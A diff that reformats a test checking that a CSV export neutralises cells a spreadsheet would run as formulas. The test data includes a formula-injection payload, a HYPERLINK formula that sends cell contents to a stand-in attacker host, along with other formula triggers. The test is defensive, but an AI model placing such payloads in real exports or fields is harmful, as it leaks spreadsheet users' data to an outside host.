@@ -11,13 +11,19 @@ describe('CSV export', () => {
     t = await startTestApp();
     officer = await (await listen(t.app)).login('syt.canbo');
   });
-  afterAll(async () => { await t?.close(); });
+  afterAll(async () => {
+    await t?.close();
+  });
 
   it('neutralises cells that a spreadsheet would run as formulas', async () => {
     const me = (await officer.get('/api/auth/me')).json;
     const created = await officer.post('/api/systems', {
-      agencyId: me.agencyId, code: 'CSV-INJ-1', name: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
-      purpose: '+1+2', cloudProvider: '@SUM(1+1)', hosting: 'cloud',
+      agencyId: me.agencyId,
+      code: 'CSV-INJ-1',
+      name: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
+      purpose: '+1+2',
+      cloudProvider: '@SUM(1+1)',
+      hosting: 'cloud',
     });
     expect(created.status, created.text).toBe(201);
     const csv = await officer.get('/api/systems/export?format=csv');
